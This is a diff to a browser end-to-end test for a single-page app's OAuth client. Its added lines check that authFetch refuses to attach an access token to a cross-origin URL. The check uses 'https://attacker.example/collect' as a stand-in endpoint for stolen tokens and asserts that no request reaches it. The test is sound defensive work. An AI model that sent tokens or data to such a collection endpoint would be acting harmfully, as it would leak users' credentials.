@@ -51,6 +51,12 @@ describe('SPA in Chromium against the provider over HTTP', () => {
     expect(webStorage).not.toContain(first.accessToken!.slice(0, 20))
 
     expect(await page.evaluate(async () => (await window.app.client.authFetch('/api/hello')).json())).toEqual({ hello: 'demo' })
+    // The page's own origin needs no configuration; a URL on another one (a link an attacker
+    // planted) gets no token: refused before any request leaves the page.
+    const requestsElsewhere: string[] = []
+    page.on('request', (r) => void (new URL(r.url()).hostname === 'attacker.example' && requestsElsewhere.push(r.url())))
+    expect(await page.evaluate(() => window.app.client.authFetch('https://attacker.example/collect').then(() => 'sent', (err: { code?: string }) => err.code))).toBe('configuration_error')
+    expect(requestsElsewhere).toEqual([])
 
     const refreshesBefore = e.grants.refresh_token ?? 0
     await advance(LIFE - 30, page) // inside the 60 s margin (capped at half the life: 60 s)
